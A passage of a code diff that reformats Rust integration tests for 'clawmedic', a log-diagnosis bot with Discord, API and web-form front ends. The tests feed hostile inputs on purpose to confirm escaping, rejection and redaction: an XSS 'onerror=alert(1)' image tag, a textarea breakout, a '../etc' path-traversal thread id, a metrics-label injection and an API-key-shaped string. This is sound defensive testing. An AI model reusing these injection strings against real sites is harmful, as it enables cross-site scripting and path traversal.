@@ -50,7 +50,8 @@ Probed 2 targets in 9.6s";
 
 const VERSION_LINE: &str = "OpenClaw version: 2026.5.12";
 
-const AUTH_ORDER: &str = "Agent: main\nProvider: openai-codex\nOrder override: openai-codex:sam.lee@example.net";
+const AUTH_ORDER: &str =
+    "Agent: main\nProvider: openai-codex\nOrder override: openai-codex:sam.lee@example.net";
 
 // ---------------------------------------------------------------------------------------------
 // Helpers
@@ -69,7 +70,8 @@ async fn send(app: &Router, req: Request<Body>) -> (StatusCode, axum::http::Head
 
 async fn send_json(app: &Router, req: Request<Body>) -> (StatusCode, Value) {
     let (status, _, body) = send(app, req).await;
-    let v = serde_json::from_slice(&body).unwrap_or_else(|_| panic!("not JSON ({status}): {}", String::from_utf8_lossy(&body)));
+    let v = serde_json::from_slice(&body)
+        .unwrap_or_else(|_| panic!("not JSON ({status}): {}", String::from_utf8_lossy(&body)));
     (status, v)
 }
 
@@ -114,7 +116,8 @@ fn api_request(body: Value, ip: &str) -> Request<Body> {
 #[tokio::test]
 async fn valid_ping_is_answered_with_pong() {
     let st = memory_state("http://127.0.0.1:9");
-    let (status, headers, body) = send(&app(&st), signed_request(&signing_key(), now(), body_of(&ping()))).await;
+    let (status, headers, body) =
+        send(&app(&st), signed_request(&signing_key(), now(), body_of(&ping()))).await;
     assert_eq!(status, StatusCode::OK);
     assert_eq!(headers[header::CONTENT_TYPE], "application/json");
     assert_eq!(serde_json::from_slice::<Value>(&body).unwrap(), json!({ "type": 1 }));
@@ -123,8 +126,10 @@ async fn valid_ping_is_answered_with_pong() {
 #[tokio::test]
 async fn valid_command_gets_the_gateway_handlers_reply() {
     let st = memory_state("http://127.0.0.1:9");
-    let payload = diagnose(1_310_000_000_000_001_001, 1_310_000_000_000_002_001, "en-US", PROBE_PASTE);
-    let (status, reply) = send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&payload))).await;
+    let payload =
+        diagnose(1_310_000_000_000_001_001, 1_310_000_000_000_002_001, "en-US", PROBE_PASTE);
+    let (status, reply) =
+        send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&payload))).await;
     assert_eq!(status, StatusCode::OK);
     let want = expected(&payload).await;
     assert!(want.followups.is_empty());
@@ -152,7 +157,11 @@ async fn bad_signatures_are_refused_with_401_before_the_body_is_read() {
     *req.body_mut() = Body::from(br#"{"type":2}"#.to_vec());
     assert_eq!(send_json(&app, req).await, (StatusCode::UNAUTHORIZED, refused.clone()));
     // No headers at all; a signature that is not hex; a timestamp that is not a number.
-    let bare = Request::builder().method(Method::POST).uri("/interactions").body(Body::from(body.clone())).unwrap();
+    let bare = Request::builder()
+        .method(Method::POST)
+        .uri("/interactions")
+        .body(Body::from(body.clone()))
+        .unwrap();
     assert_eq!(send_json(&app, bare).await, (StatusCode::UNAUTHORIZED, refused.clone()));
     let mut req = signed_request(&signing_key(), now(), body.clone());
     req.headers_mut().insert("x-signature-ed25519", "not-hex".parse().unwrap());
@@ -165,8 +174,14 @@ async fn bad_signatures_are_refused_with_401_before_the_body_is_read() {
     req.headers_mut().insert(header::CONTENT_TYPE, "application/json".parse().unwrap());
     assert_eq!(send_json(&app, req).await, (StatusCode::UNAUTHORIZED, refused));
     let metrics = st.metrics.encode();
-    assert!(metrics.contains(r#"clawmedic_interaction_rejections_total{reason="bad_signature"} 3"#), "{metrics}");
-    assert!(metrics.contains(r#"clawmedic_interaction_rejections_total{reason="malformed"} 3"#), "{metrics}");
+    assert!(
+        metrics.contains(r#"clawmedic_interaction_rejections_total{reason="bad_signature"} 3"#),
+        "{metrics}"
+    );
+    assert!(
+        metrics.contains(r#"clawmedic_interaction_rejections_total{reason="malformed"} 3"#),
+        "{metrics}"
+    );
 }
 
 #[tokio::test]
@@ -176,10 +191,19 @@ async fn replayed_old_and_future_timestamps_are_refused() {
     let body = body_of(&ping());
     let stale = (StatusCode::UNAUTHORIZED, json!({ "error": "stale_timestamp" }));
     // A genuine request captured six minutes ago and replayed now.
-    assert_eq!(send_json(&app, signed_request(&signing_key(), now() - 360, body.clone())).await, stale);
+    assert_eq!(
+        send_json(&app, signed_request(&signing_key(), now() - 360, body.clone())).await,
+        stale
+    );
     // Just past the five-minute window, both ways.
-    assert_eq!(send_json(&app, signed_request(&signing_key(), now() - 302, body.clone())).await, stale);
-    assert_eq!(send_json(&app, signed_request(&signing_key(), now() + 302, body.clone())).await, stale);
+    assert_eq!(
+        send_json(&app, signed_request(&signing_key(), now() - 302, body.clone())).await,
+        stale
+    );
+    assert_eq!(
+        send_json(&app, signed_request(&signing_key(), now() + 302, body.clone())).await,
+        stale
+    );
     // Inside the window it is fine (clock skew).
     let ok = send_json(&app, signed_request(&signing_key(), now() - 240, body.clone())).await;
     assert_eq!(ok, (StatusCode::OK, json!({ "type": 1 })));
@@ -193,7 +217,12 @@ async fn malformed_json_is_400_after_a_valid_signature() {
     let app = app(&st);
     for bad in [&b"{not json"[..], b"", b"[1,2,3]", b"\"type\""] {
         let got = send_json(&app, signed_request(&signing_key(), now(), bad.to_vec())).await;
-        assert_eq!(got, (StatusCode::BAD_REQUEST, json!({ "error": "malformed_json" })), "{}", String::from_utf8_lossy(bad));
+        assert_eq!(
+            got,
+            (StatusCode::BAD_REQUEST, json!({ "error": "malformed_json" })),
+            "{}",
+            String::from_utf8_lossy(bad)
+        );
     }
 }
 
@@ -207,15 +236,20 @@ async fn oversized_bodies_are_413() {
     let payload = diagnose(1_310_000_000_000_001_002, 1_310_000_000_000_002_002, "en-US", &paste);
     let want = (StatusCode::PAYLOAD_TOO_LARGE, json!({ "error": "body_too_large" }));
     // Declared too large (Content-Length).
-    assert_eq!(send_json(&app, signed_request(&signing_key(), now(), body_of(&payload))).await, want);
+    assert_eq!(
+        send_json(&app, signed_request(&signing_key(), now(), body_of(&payload))).await,
+        want
+    );
     // Streamed without a length: cut off at the limit all the same.
     let mut req = signed_request(&signing_key(), now(), Vec::new());
-    let chunks: Vec<Result<Vec<u8>, std::io::Error>> = body_of(&payload).chunks(8192).map(|c| Ok(c.to_vec())).collect();
+    let chunks: Vec<Result<Vec<u8>, std::io::Error>> =
+        body_of(&payload).chunks(8192).map(|c| Ok(c.to_vec())).collect();
     *req.body_mut() = Body::from_stream(futures_util::stream::iter(chunks));
     req.headers_mut().remove(header::CONTENT_LENGTH);
     assert_eq!(send_json(&app, req).await, want);
     // Just under the limit is read and handled.
-    let small = diagnose(1_310_000_000_000_001_003, 1_310_000_000_000_002_003, "en-US", &"y".repeat(1000));
+    let small =
+        diagnose(1_310_000_000_000_001_003, 1_310_000_000_000_002_003, "en-US", &"y".repeat(1000));
     let (s, v) = send_json(&app, signed_request(&signing_key(), now(), body_of(&small))).await;
     assert_eq!((s, v["type"].clone()), (StatusCode::OK, json!(4)));
 }
@@ -226,7 +260,10 @@ async fn without_a_public_key_the_endpoint_is_unavailable() {
     cfg.public_key = None;
     let st = state(cfg, Arc::new(MemoryStore::new()));
     let got = send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&ping()))).await;
-    assert_eq!(got, (StatusCode::SERVICE_UNAVAILABLE, json!({ "error": "interactions_not_configured" })));
+    assert_eq!(
+        got,
+        (StatusCode::SERVICE_UNAVAILABLE, json!({ "error": "interactions_not_configured" }))
+    );
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -246,26 +283,39 @@ async fn slow_handling_is_deferred_and_finished_through_the_webhook() {
     let id = 1_310_000_000_000_001_010;
     let payload = diagnose(id, 1_310_000_000_000_002_010, "de", PROBE_PASTE);
     let started = Instant::now();
-    let (status, reply) = send_json(&app, signed_request(&signing_key(), now(), body_of(&payload))).await;
+    let (status, reply) =
+        send_json(&app, signed_request(&signing_key(), now(), body_of(&payload))).await;
     let answered_in = started.elapsed();
     assert_eq!((status, reply), (StatusCode::OK, json!({ "type": 5 })));
-    assert!(answered_in < Duration::from_millis(650), "deferred within the budget, took {answered_in:?}");
+    assert!(
+        answered_in < Duration::from_millis(650),
+        "deferred within the budget, took {answered_in:?}"
+    );
     let hits = hook.wait_for(1).await;
     assert_eq!(hits.len(), 1);
     assert_eq!(hits[0].method, "POST");
     assert_eq!(hits[0].path, format!("/api/v10/webhooks/{APP_ID}/{}", token(id)));
     let want = expected(&payload).await;
-    assert_eq!(hits[0].body, want.response["data"], "the follow-up is exactly the reply the handler made");
+    assert_eq!(
+        hits[0].body, want.response["data"],
+        "the follow-up is exactly the reply the handler made"
+    );
     assert!(hits[0].body.to_string().contains(PIN));
     // Marked with the cause; English, the language of the paste's prose (it wins over the
     // user's Discord locale, `de`).
     let f = hits[0].body["embeds"][0]["footer"]["text"].as_str().unwrap().to_string();
     assert_eq!(f, "clawmedic · session_pin_stale · en");
-    assert!(started.elapsed() >= Duration::from_millis(1400), "the follow-up came after the slow store answered");
+    assert!(
+        started.elapsed() >= Duration::from_millis(1400),
+        "the follow-up came after the slow store answered"
+    );
     // Nothing runs in the background any more; metrics saw one deferral and one follow-up.
     assert!(st.background.wait_idle(Duration::from_secs(5)).await);
     let m = st.metrics.encode();
-    assert!(m.contains(r#"clawmedic_interactions_total{kind="command",response="deferred"} 1"#), "{m}");
+    assert!(
+        m.contains(r#"clawmedic_interactions_total{kind="command",response="deferred"} 1"#),
+        "{m}"
+    );
     assert!(m.contains(r#"clawmedic_followups_total{result="ok"} 1"#), "{m}");
     assert!(m.contains(r#"clawmedic_diagnoses_total{front_door="interactions",cause="session_pin_stale",locale="en"} 1"#), "{m}");
 }
@@ -282,11 +332,13 @@ async fn deferred_component_is_ephemeral_and_follow_ups_are_retried() {
     let inner = Arc::new(MemoryStore::new());
     // The thread remembers a diagnosis: "Show in …" re-renders it from memory.
     let fast = Deps::new(inner.clone(), BotSettings::default());
-    handle_interaction(&fast, &diagnose(1_310_000_000_000_001_019, channel, "en-US", PROBE_PASTE)).await;
+    handle_interaction(&fast, &diagnose(1_310_000_000_000_001_019, channel, "en-US", PROBE_PASTE))
+        .await;
     let st = state(cfg, Arc::new(SlowStore::new(inner.clone(), Duration::from_millis(400))));
     let id = 1_310_000_000_000_001_020;
     let press = component(id, channel, "en-US", &format!("cm:show:{channel}:1"), Some(vec!["fr"]));
-    let (status, reply) = send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&press))).await;
+    let (status, reply) =
+        send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&press))).await;
     assert_eq!((status, reply), (StatusCode::OK, json!({ "type": 5, "data": { "flags": 64 } })));
     let hits = hook.wait_for(2).await;
     let want = handle_interaction(&fast, &press).await;
@@ -302,7 +354,10 @@ async fn autocomplete_is_never_deferred() {
     let mut cfg = config(&hook.base);
     cfg.defer_after = Duration::from_millis(100);
     cfg.settings.store_timeout = Duration::from_secs(5);
-    let st = state(cfg, Arc::new(SlowStore::new(Arc::new(MemoryStore::new()), Duration::from_millis(600))));
+    let st = state(
+        cfg,
+        Arc::new(SlowStore::new(Arc::new(MemoryStore::new()), Duration::from_millis(600))),
+    );
     let payload = autocomplete_profile(1_310_000_000_000_001_030, 1_310_000_000_000_002_030, "sam");
     let got = send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&payload))).await;
     assert_eq!(got, (StatusCode::OK, json!({ "type": 8, "data": { "choices": [] } })));
@@ -319,7 +374,10 @@ async fn over_a_loopback_socket_and_graceful_shutdown() {
     let mut cfg = config(&hook.base);
     cfg.defer_after = Duration::from_millis(150);
     cfg.settings.store_timeout = Duration::from_secs(5);
-    let st = state(cfg, Arc::new(SlowStore::new(Arc::new(MemoryStore::new()), Duration::from_millis(500))));
+    let st = state(
+        cfg,
+        Arc::new(SlowStore::new(Arc::new(MemoryStore::new()), Duration::from_millis(500))),
+    );
     let server = Running::start(st.clone()).await;
     let http = reqwest::Client::new();
     let post = |body: Vec<u8>, ts: u64, key: &ed25519_dalek::SigningKey| {
@@ -343,7 +401,10 @@ async fn over_a_loopback_socket_and_graceful_shutdown() {
     let r = post(body_of(&payload), now(), &signing_key()).send().await.unwrap();
     assert_eq!(r.json::<Value>().await.unwrap(), json!({ "type": 5 }));
     let r = http.get(format!("{}/healthz", server.base)).send().await.unwrap();
-    assert_eq!((r.status().as_u16(), r.json::<Value>().await.unwrap()), (200, json!({ "status": "ok" })));
+    assert_eq!(
+        (r.status().as_u16(), r.json::<Value>().await.unwrap()),
+        (200, json!({ "status": "ok" }))
+    );
     assert!(hook.hits().is_empty(), "the follow-up is still being prepared");
     server.shutdown().await.expect("clean shutdown");
     let hits = hook.hits();
@@ -359,7 +420,8 @@ async fn over_a_loopback_socket_and_graceful_shutdown() {
 async fn api_returns_the_cli_json_contract() {
     let st = memory_state("http://127.0.0.1:9");
     let app = app(&st);
-    let (status, v) = send_json(&app, api_request(json!({ "paste": PROBE_PASTE }), "192.0.2.1")).await;
+    let (status, v) =
+        send_json(&app, api_request(json!({ "paste": PROBE_PASTE }), "192.0.2.1")).await;
     assert_eq!(status, StatusCode::OK);
     assert_eq!(v, report_json(&diagnose_thread(&[PROBE_PASTE], &Options::default())));
     assert_eq!(v["findings"][0]["cause"], "session_pin_stale");
@@ -373,12 +435,26 @@ async fn api_returns_the_cli_json_contract() {
         .unwrap();
     let (status, v) = send_json(&app, req).await;
     assert_eq!(status, StatusCode::OK);
-    let opts = Options { lang: Some("pt-BR"), openclaw_version: clawmedic::versions::Version::parse("2026.5.12"), ..Default::default() };
+    let opts = Options {
+        lang: Some("pt-BR"),
+        openclaw_version: clawmedic::versions::Version::parse("2026.5.12"),
+        ..Default::default()
+    };
     assert_eq!(v, report_json(&diagnose_thread(&[PROBE_ONLY], &opts)));
     assert_eq!(v["locale"], "pt-BR");
     // Several messages of one thread.
-    let (_, v) = send_json(&app, api_request(json!({ "messages": [BANNER, PROBE_ONLY], "lang": "ja" }), "192.0.2.1")).await;
-    assert_eq!(v, report_json(&diagnose_thread(&[BANNER, PROBE_ONLY], &Options { lang: Some("ja"), ..Default::default() })));
+    let (_, v) = send_json(
+        &app,
+        api_request(json!({ "messages": [BANNER, PROBE_ONLY], "lang": "ja" }), "192.0.2.1"),
+    )
+    .await;
+    assert_eq!(
+        v,
+        report_json(&diagnose_thread(
+            &[BANNER, PROBE_ONLY],
+            &Options { lang: Some("ja"), ..Default::default() }
+        ))
+    );
 }
 
 #[tokio::test]
@@ -388,7 +464,12 @@ async fn api_errors_are_clear_and_localized() {
     let st = state(cfg, Arc::new(MemoryStore::new()));
     let app = app(&st);
     let cases = [
-        (json!({ "paste": "   " }), StatusCode::BAD_REQUEST, "no_input", t(Locale::En, "error-no-input")),
+        (
+            json!({ "paste": "   " }),
+            StatusCode::BAD_REQUEST,
+            "no_input",
+            t(Locale::En, "error-no-input"),
+        ),
         (json!({ "paste": "x", "lang": "de" , "messages": [] }), StatusCode::OK, "", String::new()),
         (
             json!({ "paste": PROBE_ONLY, "lang": "klingon" }),
@@ -405,7 +486,10 @@ async fn api_errors_are_clear_and_localized() {
             json!({ "messages": vec!["x"; 21], "lang": "de" }),
             StatusCode::PAYLOAD_TOO_LARGE,
             "too_large",
-            tr(Locale::De, &clawmedic::diagnose::Msg::new("error-too-many-messages").arg("limit", "20")),
+            tr(
+                Locale::De,
+                &clawmedic::diagnose::Msg::new("error-too-many-messages").arg("limit", "20"),
+            ),
         ),
         (
             json!({ "paste": "x", "lang": "pt-BR", "thread": "../etc" }),
@@ -439,7 +523,9 @@ async fn api_errors_are_clear_and_localized() {
         }
     }
     // Past the body limit: refused before it is read.
-    let (s, v) = send_json(&app, api_request(json!({ "paste": "q".repeat(3 * 1024 * 1024) }), "192.0.2.2")).await;
+    let (s, v) =
+        send_json(&app, api_request(json!({ "paste": "q".repeat(3 * 1024 * 1024) }), "192.0.2.2"))
+            .await;
     assert_eq!(s, StatusCode::PAYLOAD_TOO_LARGE);
     assert_eq!(v["error"], "too_large");
     // Not JSON although it says so.
@@ -447,7 +533,10 @@ async fn api_errors_are_clear_and_localized() {
     *req.body_mut() = Body::from("{oops");
     req.headers_mut().remove(header::CONTENT_LENGTH);
     let (s, v) = send_json(&app, req).await;
-    assert_eq!(v, json!({ "error": "malformed_json", "message": t(Locale::En, "error-malformed-json") }));
+    assert_eq!(
+        v,
+        json!({ "error": "malformed_json", "message": t(Locale::En, "error-malformed-json") })
+    );
     assert_eq!(s, StatusCode::BAD_REQUEST);
     // … in the language of `?lang=`.
     let mut req = api_request(json!(null), "192.0.2.2");
@@ -455,7 +544,13 @@ async fn api_errors_are_clear_and_localized() {
     *req.body_mut() = Body::from("[1, 2]");
     req.headers_mut().remove(header::CONTENT_LENGTH);
     let (s, v) = send_json(&app, req).await;
-    assert_eq!((s, v), (StatusCode::BAD_REQUEST, json!({ "error": "malformed_json", "message": t(Locale::Ru, "error-malformed-json") })));
+    assert_eq!(
+        (s, v),
+        (
+            StatusCode::BAD_REQUEST,
+            json!({ "error": "malformed_json", "message": t(Locale::Ru, "error-malformed-json") })
+        )
+    );
 }
 
 /// Versions as `openclaw --version` prints them, and words like `latest`: never refused.
@@ -463,14 +558,32 @@ async fn api_errors_are_clear_and_localized() {
 async fn api_versions_as_users_write_them() {
     let st = memory_state("http://127.0.0.1:9");
     let app = app(&st);
-    for (given, want) in [("OpenClaw 2026.6.9", "2026.6.9"), ("2026.5.12 (a1b2c3d)", "2026.5.12"), ("V2026.5.12", "2026.5.12")] {
-        let (s, v) = send_json(&app, api_request(json!({ "paste": PROBE_ONLY, "openclaw_version": given }), "192.0.2.30")).await;
+    for (given, want) in [
+        ("OpenClaw 2026.6.9", "2026.6.9"),
+        ("2026.5.12 (a1b2c3d)", "2026.5.12"),
+        ("V2026.5.12", "2026.5.12"),
+    ] {
+        let (s, v) = send_json(
+            &app,
+            api_request(json!({ "paste": PROBE_ONLY, "openclaw_version": given }), "192.0.2.30"),
+        )
+        .await;
         assert_eq!((s, v["openclaw_version"].clone()), (StatusCode::OK, json!(want)), "{given}");
     }
-    let (s, v) = send_json(&app, api_request(json!({ "paste": PROBE_ONLY, "lang": "fr", "version": "latest" }), "192.0.2.31")).await;
+    let (s, v) = send_json(
+        &app,
+        api_request(
+            json!({ "paste": PROBE_ONLY, "lang": "fr", "version": "latest" }),
+            "192.0.2.31",
+        ),
+    )
+    .await;
     assert_eq!(s, StatusCode::OK);
     assert_eq!(v["openclaw_version"], Value::Null);
-    let note = tr(Locale::Fr, &clawmedic::diagnose::Msg::new("note-version-not-a-release").arg("given", "latest"));
+    let note = tr(
+        Locale::Fr,
+        &clawmedic::diagnose::Msg::new("note-version-not-a-release").arg("given", "latest"),
+    );
     assert_eq!(v["notes"][0], json!(note));
     // A raw UTF-16 body (PowerShell) with the version as a query parameter.
     let mut body = vec![0xFF, 0xFE];
@@ -482,7 +595,13 @@ async fn api_versions_as_users_write_them() {
         .unwrap();
     let (s, v) = send_json(&app, req).await;
     assert_eq!(s, StatusCode::OK, "{v}");
-    assert_eq!(v, report_json(&diagnose_thread(&[PROBE_ONLY], &Options { unknown_version: Some("v2026.6.34"), ..Default::default() })));
+    assert_eq!(
+        v,
+        report_json(&diagnose_thread(
+            &[PROBE_ONLY],
+            &Options { unknown_version: Some("v2026.6.34"), ..Default::default() }
+        ))
+    );
 }
 
 #[tokio::test]
@@ -499,13 +618,17 @@ async fn per_ip_and_per_thread_rate_limits() {
     assert_eq!(s, StatusCode::TOO_MANY_REQUESTS);
     assert_eq!(headers[header::RETRY_AFTER], "10");
     let v: Value = serde_json::from_slice(&b).unwrap();
-    let msg = tr(Locale::En, &clawmedic::diagnose::Msg::new("error-rate-limited").arg("seconds", "10"));
+    let msg =
+        tr(Locale::En, &clawmedic::diagnose::Msg::new("error-rate-limited").arg("seconds", "10"));
     assert_eq!(v, json!({ "error": "rate_limited", "message": msg }));
     // Another client is not affected; IPv6 neighbours in one /64 share a bucket.
     assert_eq!(send(&app, api_request(body.clone(), "198.51.100.8")).await.0, StatusCode::OK);
     assert_eq!(send(&app, api_request(body.clone(), "[2001:db8::1]")).await.0, StatusCode::OK);
     assert_eq!(send(&app, api_request(body.clone(), "[2001:db8::2]")).await.0, StatusCode::OK);
-    assert_eq!(send(&app, api_request(body.clone(), "[2001:db8::3]")).await.0, StatusCode::TOO_MANY_REQUESTS);
+    assert_eq!(
+        send(&app, api_request(body.clone(), "[2001:db8::3]")).await.0,
+        StatusCode::TOO_MANY_REQUESTS
+    );
     // One thread id, from different clients: limited per thread.
     let thread = json!({ "paste": PROBE_ONLY, "thread": "t-0123456789abcdef" });
     assert_eq!(send(&app, api_request(thread.clone(), "203.0.113.1")).await.0, StatusCode::OK);
@@ -522,14 +645,25 @@ async fn api_thread_memory_reads_follow_ups_together() {
     let st = memory_state("http://127.0.0.1:9");
     let app = app(&st);
     let thread = "web-thread-0123456789";
-    let (_, first) = send_json(&app, api_request(json!({ "paste": BANNER, "thread": thread }), "192.0.2.9")).await;
+    let (_, first) =
+        send_json(&app, api_request(json!({ "paste": BANNER, "thread": thread }), "192.0.2.9"))
+            .await;
     assert_ne!(first["findings"][0]["cause"], "session_pin_stale");
-    let (_, second) = send_json(&app, api_request(json!({ "paste": PROBE_ONLY, "thread": thread }), "192.0.2.9")).await;
+    let (_, second) =
+        send_json(&app, api_request(json!({ "paste": PROBE_ONLY, "thread": thread }), "192.0.2.9"))
+            .await;
     assert_eq!(second["findings"][0]["cause"], "session_pin_stale", "{second}");
     assert_eq!(second["findings"][0]["steps"][0]["command"], PIN);
-    let mem = st.store.load(&ThreadKey { scope: "web".into(), id: thread.into() }).await.unwrap().unwrap();
+    let mem = st
+        .store
+        .load(&ThreadKey { scope: "web".into(), id: thread.into() })
+        .await
+        .unwrap()
+        .unwrap();
     assert_eq!(mem.messages, 2);
-    let (s, v) = send_json(&app, api_request(json!({ "paste": "x", "thread": "../etc" }), "192.0.2.9")).await;
+    let (s, v) =
+        send_json(&app, api_request(json!({ "paste": "x", "thread": "../etc" }), "192.0.2.9"))
+            .await;
     assert_eq!((s, v["error"].clone()), (StatusCode::BAD_REQUEST, json!("bad_thread")));
 }
 
@@ -538,8 +672,18 @@ async fn web_requests_time_out() {
     let mut cfg = config("http://127.0.0.1:9");
     cfg.request_timeout = Duration::from_millis(150);
     cfg.settings.store_timeout = Duration::from_secs(5);
-    let st = state(cfg, Arc::new(SlowStore::new(Arc::new(MemoryStore::new()), Duration::from_millis(600))));
-    let (s, _, _) = send(&app(&st), api_request(json!({ "paste": PROBE_ONLY, "thread": "slow-thread-0123456789" }), "192.0.2.3")).await;
+    let st = state(
+        cfg,
+        Arc::new(SlowStore::new(Arc::new(MemoryStore::new()), Duration::from_millis(600))),
+    );
+    let (s, _, _) = send(
+        &app(&st),
+        api_request(
+            json!({ "paste": PROBE_ONLY, "thread": "slow-thread-0123456789" }),
+            "192.0.2.3",
+        ),
+    )
+    .await;
     assert_eq!(s, StatusCode::REQUEST_TIMEOUT);
 }
 
@@ -547,19 +691,26 @@ async fn web_requests_time_out() {
 async fn the_form_page_works_without_javascript_and_escapes_everything() {
     let st = memory_state("http://127.0.0.1:9");
     let app = app(&st);
-    let get = Request::builder().uri("/").header(header::ACCEPT_LANGUAGE, "fa-IR,fa;q=0.9,en;q=0.5").body(Body::empty()).unwrap();
+    let get = Request::builder()
+        .uri("/")
+        .header(header::ACCEPT_LANGUAGE, "fa-IR,fa;q=0.9,en;q=0.5")
+        .body(Body::empty())
+        .unwrap();
     let (s, headers, page) = send(&app, get).await;
     let page = String::from_utf8(page).unwrap();
     assert_eq!(s, StatusCode::OK);
-    assert!(headers[header::CONTENT_SECURITY_POLICY].to_str().unwrap().contains("script-src 'self'"));
+    assert!(headers[header::CONTENT_SECURITY_POLICY]
+        .to_str()
+        .unwrap()
+        .contains("script-src 'self'"));
     assert!(page.starts_with(r#"<!doctype html><html lang="fa" dir="rtl">"#), "{page}");
-    assert!(page.contains(r#"<label for="paste">"#) && page.contains(r#"<textarea id="paste" name="paste""#));
+    assert!(
+        page.contains(r#"<label for="paste">"#)
+            && page.contains(r#"<textarea id="paste" name="paste""#)
+    );
     // Submit the form, url-encoded as a browser does, with a hostile line in the paste.
     let paste = format!("{PROBE_PASTE}\n<img src=x onerror=alert(1)> \"quoted\" & 'single'");
-    let form = format!(
-        "paste={}&lang=&version=&ui=en",
-        form_urlencode(&paste)
-    );
+    let form = format!("paste={}&lang=&version=&ui=en", form_urlencode(&paste));
     let post = Request::builder()
         .method(Method::POST)
         .uri("/")
@@ -596,27 +747,41 @@ async fn the_form_keeps_the_paste_after_an_error_and_shows_version_notes() {
     let st = memory_state("http://127.0.0.1:9");
     let app = app(&st);
     let key = "sk-proj-hvkRYtW6ZCrNBQH4S7otNn9aCyZLzEyYaGomLaQM";
-    let paste = format!("{PROBE_PASTE}
+    let paste = format!(
+        "{PROBE_PASTE}
 apiKey: {key}
-</textarea><b>x</b>");
+</textarea><b>x</b>"
+    );
     let form = format!("paste={}&lang=klingon&version=&ui=de", form_urlencode(&paste));
     let (s, _, page) = send(&app, form_post(form)).await;
     let page = String::from_utf8(page).unwrap();
     assert_eq!(s, StatusCode::BAD_REQUEST);
     assert!(page.contains(r#"<p class="error" role="alert">"#), "{page}");
     let kept = clawmedic::ingest::redact(&paste);
-    let escaped = kept.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;").replace('\'', "&#39;");
+    let escaped = kept
+        .replace('&', "&amp;")
+        .replace('<', "&lt;")
+        .replace('>', "&gt;")
+        .replace('"', "&quot;")
+        .replace('\'', "&#39;");
     assert!(page.contains(&format!(r#"dir="ltr">{escaped}</textarea>"#)), "{page}");
     assert!(page.contains("Probed 2 targets"), "the paste is back in the form");
     assert!(!page.contains(key) && !page.contains("<b>x</b>"), "no secret, nothing unescaped");
     // A version as `openclaw --version` prints it, different from the paste's 2026.5.12.
-    let form = format!("paste={}&lang=&version={}&ui=en", form_urlencode(PROBE_PASTE), form_urlencode("OpenClaw 2026.6.9 (c645ec4)"));
+    let form = format!(
+        "paste={}&lang=&version={}&ui=en",
+        form_urlencode(PROBE_PASTE),
+        form_urlencode("OpenClaw 2026.6.9 (c645ec4)")
+    );
     let (s, _, page) = send(&app, form_post(form)).await;
     let page = String::from_utf8(page).unwrap();
     assert_eq!(s, StatusCode::OK);
     assert!(page.contains(r#"<p class="version">OpenClaw 2026.6.9 (as given).</p>"#), "{page}");
     assert!(page.contains(r#"<p class="note" role="note">You gave OpenClaw 2026.6.9, but the paste shows 2026.5.12; this reply uses 2026.6.9, the version you gave.</p>"#), "{page}");
-    assert!(page.contains(r#"value="OpenClaw 2026.6.9 (c645ec4)""#), "the field keeps what was typed");
+    assert!(
+        page.contains(r#"value="OpenClaw 2026.6.9 (c645ec4)""#),
+        "the field keeps what was typed"
+    );
     assert!(!page.contains("Probed 2 targets"), "after a diagnosis the paste is not echoed");
 }
 
@@ -624,7 +789,9 @@ fn form_urlencode(s: &str) -> String {
     let mut out = String::new();
     for b in s.bytes() {
         match b {
-            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => out.push(b as char),
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
+                out.push(b as char)
+            }
             b' ' => out.push('+'),
             _ => out.push_str(&format!("%{b:02X}")),
         }
@@ -638,17 +805,27 @@ async fn health_readiness_and_metrics() {
     let app = app(&st);
     let get = |p: &str| Request::builder().uri(p).body(Body::empty()).unwrap();
     assert_eq!(send_json(&app, get("/healthz")).await, (StatusCode::OK, json!({ "status": "ok" })));
-    assert_eq!(send_json(&app, get("/readyz")).await, (StatusCode::OK, json!({ "status": "ready" })));
-    assert_eq!(send_json(&app, get("/no/such/page?q=sam.lee")).await, (StatusCode::NOT_FOUND, json!({ "error": "not_found" })));
+    assert_eq!(
+        send_json(&app, get("/readyz")).await,
+        (StatusCode::OK, json!({ "status": "ready" }))
+    );
+    assert_eq!(
+        send_json(&app, get("/no/such/page?q=sam.lee")).await,
+        (StatusCode::NOT_FOUND, json!({ "error": "not_found" }))
+    );
     // A diagnosis through each door, with user text (an e-mail, a hostile label) in the paste.
-    let payload = diagnose(1_310_000_000_000_001_050, 1_310_000_000_000_002_050, "zh-TW", PROBE_PASTE);
+    let payload =
+        diagnose(1_310_000_000_000_001_050, 1_310_000_000_000_002_050, "zh-TW", PROBE_PASTE);
     send(&app, signed_request(&signing_key(), now(), body_of(&payload))).await;
     let hostile = format!("{PROBE_PASTE}\nlabel=\"}} evil{{\"");
     send(&app, api_request(json!({ "paste": hostile, "lang": "zh-TW" }), "192.0.2.4")).await;
     let (s, headers, text) = send(&app, get("/metrics")).await;
     let text = String::from_utf8(text).unwrap();
     assert_eq!(s, StatusCode::OK);
-    assert!(headers[header::CONTENT_TYPE].to_str().unwrap().starts_with("application/openmetrics-text"));
+    assert!(headers[header::CONTENT_TYPE]
+        .to_str()
+        .unwrap()
+        .starts_with("application/openmetrics-text"));
     for want in [
         r#"clawmedic_http_requests_total{route="interactions",method="POST",status="200"} 1"#,
         r#"clawmedic_http_requests_total{route="api_diagnose",method="POST",status="200"} 1"#,
@@ -672,9 +849,13 @@ async fn readiness_fails_when_the_store_is_down_and_errors_are_counted() {
     let st = state(config("http://127.0.0.1:9"), Arc::new(FailingStore::new()));
     let app = app(&st);
     let get = |p: &str| Request::builder().uri(p).body(Body::empty()).unwrap();
-    assert_eq!(send_json(&app, get("/readyz")).await, (StatusCode::SERVICE_UNAVAILABLE, json!({ "status": "store_unavailable" })));
+    assert_eq!(
+        send_json(&app, get("/readyz")).await,
+        (StatusCode::SERVICE_UNAVAILABLE, json!({ "status": "store_unavailable" }))
+    );
     // Interactions still get a reply (without memory).
-    let payload = diagnose(1_310_000_000_000_001_060, 1_310_000_000_000_002_060, "en-US", PROBE_PASTE);
+    let payload =
